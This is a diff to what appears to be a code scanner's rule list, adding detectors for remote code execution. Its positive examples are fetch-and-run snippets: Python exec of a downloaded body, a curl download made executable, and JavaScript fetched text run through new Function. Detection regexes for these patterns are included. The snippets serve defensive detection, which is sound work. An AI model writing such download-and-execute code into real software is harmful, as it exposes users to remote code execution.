@@ -117,4 +117,14 @@ RULES = (
         "fetch(u).then((r) => r.text()).then((code) => new Function('require', code)(require))", "const add = new Function('a', 'b', 'return a + b')\n",
         terms=(r"\bfetch\(|\baxios\b|https?\.get\(|\batob\(|Buffer\.from\(|readFileSync\(", r"\bnew Function\([^)\n]{0,60}\b(?:code|body|src|source|text|data|payload|script|s|c|js)\s*\)|vm\.(?:runIn\w+|Script)\(\s*(?:code|body|src|source|text|data|payload)"), gap=300, where=Where.RUNS | Where.PROSE, example_path=_JS,
     ),
+    Rule(
+        "remote-code.flow", Severity.HIGH, "what comes from another machine is run: its name is followed through the file", _ADVICE,
+        "body = urlopen('https://cdn.example.net/p').read()\nns = {}\nexec(body, ns)\n", "body = urlopen('https://api.example.com/rates').read()\nprint(body)\n",
+        example_path=_PY,
+    ),
+    Rule(
+        "remote-code.downloaded-file", Severity.HIGH, "a downloaded file is started, and its SHA-256 is not compared", _ADVICE,
+        't=$(mktemp)\ncurl -fsSL https://cdn.example.net/run -o "$t"\nchmod +x "$t"\n', "curl -fsSL https://api.example.com/rates -o rates.json\npython3 scripts/show.py rates.json\n",
+        example_path=_SH,
+    ),
 )  # fmt: skip
